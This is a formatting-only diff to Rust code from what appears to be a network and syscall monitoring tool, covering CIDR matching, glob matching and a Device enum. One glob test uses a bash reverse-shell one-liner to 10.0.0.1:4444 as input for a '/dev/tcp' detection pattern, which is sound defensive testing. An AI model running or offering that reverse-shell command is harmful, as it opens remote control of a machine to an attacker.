@@ -72,7 +72,9 @@ impl Cidr {
                 let mask = if shift == 128 { 0 } else { u128::MAX << shift };
                 u128::from(n) & mask == u128::from(i) & mask
             }
-            (IpAddr::V4(_), IpAddr::V6(i)) => i.to_ipv4_mapped().is_some_and(|v4| self.contains(IpAddr::V4(v4))),
+            (IpAddr::V4(_), IpAddr::V6(i)) => i
+                .to_ipv4_mapped()
+                .is_some_and(|v4| self.contains(IpAddr::V4(v4))),
             _ => false,
         }
     }
@@ -168,7 +170,9 @@ pub fn glob(pattern: &str, text: &str) -> bool {
 
 /// Whom a per-device model or series belongs to: an address seen on the wire, or this host
 /// (syscall events). Cheap to hash, unlike its string form.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize)]
+#[derive(
+    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
+)]
 pub enum Device {
     Ip(IpAddr),
     Local,
@@ -215,7 +219,10 @@ mod tests {
 
     #[test]
     fn globs() {
-        assert!(glob("*/dev/tcp/*", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
+        assert!(glob(
+            "*/dev/tcp/*",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+        ));
         assert!(glob("*.enc", "a/b.enc"));
         assert!(!glob("*.enc", "a/b.encx"));
         assert!(glob("a?c", "abc"));
